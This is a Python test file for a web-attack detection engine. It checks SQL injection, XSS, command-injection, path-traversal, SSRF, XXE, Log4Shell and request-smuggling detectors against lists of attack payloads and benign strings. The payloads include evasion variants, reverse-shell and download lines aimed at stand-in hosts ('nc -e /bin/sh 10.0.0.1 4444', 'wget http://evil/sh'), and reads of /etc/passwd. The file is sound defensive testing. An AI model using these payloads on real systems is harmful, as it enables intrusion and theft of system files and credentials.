"""Per-detector behaviour, including the evasions attackers use and the prose that must stay clean."""
from __future__ import annotations

import json

import pytest

from sensor.detect import THRESHOLD, verdict
from sensor.detect import ptrav, rce, sqli, xss
from tests.detect.conftest import req


def types(hits, floor: float = THRESHOLD) -> set[str]:
    return {h.type for h in hits if h.score >= floor}


@pytest.mark.parametrize("v", [
    "1' or '1'='1", "admin'--", "1 union select password from users", "-1 UNION/**/SELECT 1,2,3",
    "1/*!50000union*/ /*!50000select*/ 1", "1' UnIoN sElEcT null--", "1;drop table users", "1 and sleep(5)",
    "x' and extractvalue(1,concat(0x7e,version()))-- -", "1' AND 1=1#", "\\' or 1=1 -- ", "1) or (1=1",
    "1' waitfor delay '0:0:5'--", "';exec master..xp_cmdshell 'dir'--", "1 or benchmark(1000000,md5(1))",
    "1 order by 3--", "@@version", "1' and (select 1 from information_schema.tables)--",
])
def test_sqli_positives(v):
    f = sqli.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


@pytest.mark.parametrize("v", [
    "mother or daughter", "O'Brien", "it's 5 o'clock or later", "Rock 'n' roll", "select a color from the list",
    "The script is written from right to left, (Lal 1966)", "1-2-3", "union station", "Tom & Jerry",
    "price >= 100", "don't, or else",
])
def test_sqli_negatives(v):
    f = sqli.analyze(v)
    assert f is None or f.score < THRESHOLD, (v, f)


def test_sqli_knows_the_context_it_breaks_out_of():
    assert sqli.analyze("x' or 'a'='a").rule == "sqli:quote_logic"
    assert sqli.analyze('x" or "a"="a').rule == "sqli:quote_logic"
    toks = sqli.tokenize("'abc' /* c */ or 1=1 -- x")
    assert [t.t for t in toks] == ["s", "c", "&", "1", "o", "1", "c"]


@pytest.mark.parametrize("v", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "java&#x0A;script:alert(1)", "jav\tascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)",
    "\" onmouseover=\"alert(1)", "'><script>alert(1)</script>", "';alert(document.cookie)//",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>", "<iframe src=//evil>", "<div style=\"x:expression(alert(1))\">",
    "<x onclick=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
])
def test_xss_positives(v):
    f = xss.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


@pytest.mark.parametrize("v", ["a < b and c > d", "Juan <juan@x.com>", "5 > 3", "Contact me on=monday",
                               "javascript is a language", "online=yes"])
def test_xss_negatives(v):
    f = xss.analyze(v)
    assert f is None or f.score < THRESHOLD, (v, f)


@pytest.mark.parametrize("v", [
    ";cat /etc/passwd", "| id", "`whoami`", "$(id)", "c'a't${IFS}/etc/passwd", "cat$IFS$9/etc/passwd",
    "{cat,/etc/passwd}", "/???/c?t /etc/passwd", "x && wget http://evil/sh", "a;c\\at /etc/shadow",
    "() { :; }; /bin/bash -c id", "find /etc -name passwd -exec cat {} +", "1|nc -e /bin/sh 10.0.0.1 4444",
    "& ping -n 3 127.0.0.1", "| powershell -enc SQBFAFgA", "FOR /F %i IN (a.txt) DO type %i",
    "\"`false`\"", "time curl evil.example",
])
def test_rce_positives(v):
    f = rce.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


@pytest.mark.parametrize("v", ["Tom & Jerry", "cats and dogs", "hello; world", "I love to cat things",
                               "salt & pepper", "find the best price", "time flies"])
def test_rce_negatives(v):
    f = rce.analyze(v)
    assert f is None or f.score < THRESHOLD, (v, f)


def test_shell_tokenizer_joins_quoted_and_escaped_parts():
    assert [w for _, w in rce.words(rce.normalize("c'a't /e\"t\"c/pas\\swd"))] == ["cat", "/etc/passwd"]
    assert [s for s, _ in rce.words("a;b|c&&d")] == ["^", ";", "|", "&&"]


@pytest.mark.parametrize("v", [
    "../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd", "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fboot.ini", "....//....//etc/passwd", "../../../../etc/passwd%00.jpg",
    "%252e%252e%252fetc%252fpasswd", "..%u2215..%u2215etc%u2215passwd", "/etc/shadow",
])
def test_ptrav_positives(v):
    f = ptrav.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


def test_ptrav_null_byte_and_overlong_normalisation():
    norm, nul = ptrav.normalize("..%c0%af..%c0%afetc%00")
    assert norm == "../../etc" and nul
    assert ptrav.analyze("image.png") is None
    assert ptrav.analyze("/static/app.js", is_path=True) is None


@pytest.mark.parametrize("target,kind", [
    ("/?t={{7*7}}", "ssti"), ("/?t=${7*7}", "ssti"), ("/?p=<!--%23exec%20cmd=%22id%22-->", "ssi"),
    ("/?u=http://169.254.169.254/latest/meta-data/", "ssrf"), ("/?u=http://2130706433/", "ssrf"),
    ("/?u=gopher://127.0.0.1:6379/_x", "ssrf"), ("/?n=x%0d%0aSet-Cookie:%20a=b", "crlf"),
    ("/?m=a@b.c%0aBcc:%20x@y.z", "mail_injection"), ("/?u=*)(uid=*))(|(uid=*", "ldapi"),
    ("/?user[$ne]=x", "nosqli"), ("/?inc=http://10.0.0.5/shell.txt?", "rfi"),
    ("/?x=${jndi:ldap://x/a}", "rce"), ("/?x=${${lower:j}ndi:ldap://x/a}", "rce"),
    ("/?x=O:8:%22stdClass%22:0:{}", "rce"), ("/?x=%3C%3Fphp%20system($_GET[1]);", "rce"),
    ("/?x=__import__('os').system('id')", "rce"), ("/?x=java.lang.Runtime", "rce"),
    ("/?x=require('child_process').exec('id')", "rce"),
])
def test_other_detectors(engine, target, kind):
    assert kind in types(engine.inspect(req(target))), target


def test_xxe_in_xml_body(engine):
    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    hits = engine.inspect(req("/api", "POST", [("Content-Type", "application/xml")], body))
    assert "xxe" in types(hits)


def test_json_unicode_escapes_are_decoded_before_detection(engine):
    body = json.dumps({"q": "<script>alert(1)</script>"}).replace("<", "\\u003c").encode()
    hits = engine.inspect(req("/api", "POST", [("Content-Type", "application/json")], body))
    assert any(h.type == "xss" and h.point == ["post", "json_doc", "hash", "q"] for h in hits)


def test_scanner_user_agent_and_protocol_smuggling(engine):
    hits = engine.inspect(req("/", headers=[("User-Agent", "sqlmap/1.7")]))
    assert "scanner" in types(hits)
    hits = engine.inspect_headers(req("/", "POST", [("Content-Length", "5"), ("Transfer-Encoding", "chunked")]))
    assert any(h.rule == "protocol:cl_te" for h in hits)
    hits = engine.inspect_headers(req("/", "POST", [("Content-Length", "5"), ("Content-Length", "6")]))
    assert any(h.rule == "protocol:duplicate_cl" for h in hits)


def test_inspect_headers_ignores_the_body(engine):
    r = req("/p", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"q=1' union select 1--")
    assert verdict(engine.inspect(r)) == "attack"
    assert verdict(engine.inspect_headers(r)) == "clean"


def test_overlimit_is_a_protocol_hit(engine):
    from sensor.detect import Engine, Limits
    e = Engine(limits=Limits(max_params=5))
    hits = e.inspect(req("/?" + "&".join(f"a{i}=1" for i in range(50))))
    assert any(h.type == "protocol" and h.rule == "overlimit" and h.score >= THRESHOLD for h in hits)


def test_cpu_budget_is_an_overlimit_hit():
    from sensor.detect import Engine, Limits
    e = Engine(limits=Limits(cpu_budget_ms=0.001))
    hits = e.inspect(req("/?" + "&".join(f"a{i}=%27x{i}" for i in range(64))))
    assert any(h.rule == "overlimit" and h.value == "cpu_budget" for h in hits), hits


def test_a_garbage_collection_pause_is_not_charged_to_the_request():
    """A full collection of a big heap can land inside any request; it must not make an ordinary request an
    'overlimit' attack. Here a collection that spins 80 ms (budget 50 ms) is forced inside `inspect`."""
    import gc
    import time

    from sensor.detect import Engine
    e = Engine()
    r = req("/?" + "&".join(f"a{i}=v{i}" for i in range(40)))
    e.inspect(r)   # warm: lazy imports and caches are not what this test is about
    spun = []

    def slow_collection(phase, _info):
        if phase == "start" and not spun:
            spun.append(1)
            t = time.thread_time()
            while time.thread_time() - t < 0.08:
                pass

    gc.callbacks.append(slow_collection)
    old = gc.get_threshold()
    try:
        gc.set_threshold(1)    # the next allocation inside inspect() starts a collection
        t0 = time.thread_time()
        hits = e.inspect(r)
        took = time.thread_time() - t0
    finally:
        gc.set_threshold(*old)
        gc.callbacks.remove(slow_collection)
    assert spun and took > 0.05, "the pause did not land inside the request"
    assert not [h for h in hits if h.rule == "overlimit"], hits


def test_hits_carry_point_value_and_calibrated_score(engine):
    hits = engine.inspect(req("/search?q=%27%20or%201%3D1--"))
    h = next(h for h in hits if h.type == "sqli")
    assert h.point == ["get", "q"] and h.value == "' or 1=1--" and 0.5 <= h.score <= 1.0 and h.rule.startswith("sqli:")
    assert engine(req("/?q=hello")) == []  # Engine is a detector callable


def test_benign_traffic_is_clean(engine):
    r = req("/products/42?sort=price&page=2&q=red+shoes", headers=[
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.5"),
        ("Cookie", "sid=4f9a0c; theme=dark"), ("Referer", "https://shop.example/products?page=1")])
    assert verdict(engine.inspect(r)) == "clean", engine.inspect(r)


def test_compiled_database_is_cached_and_reloaded(tmp_path, monkeypatch):
    from sensor.detect import Engine
    monkeypatch.setenv("RAMPART_CACHE_DIR", str(tmp_path))
    first = Engine()
    cached = list(tmp_path.glob("hs-*.db"))
    assert len(cached) == 1 and cached[0].stat().st_size > 0
    second = Engine()  # loads the serialized database instead of compiling
    for e in (first, second):
        assert types(e.inspect(req("/?q=1%20union%20select%201"))) == {"sqli"}
    cached[0].write_bytes(b"garbage")  # a corrupt cache is recompiled, not trusted
    assert types(Engine().inspect(req("/?q=%3Cscript%3E"))) == {"xss"}
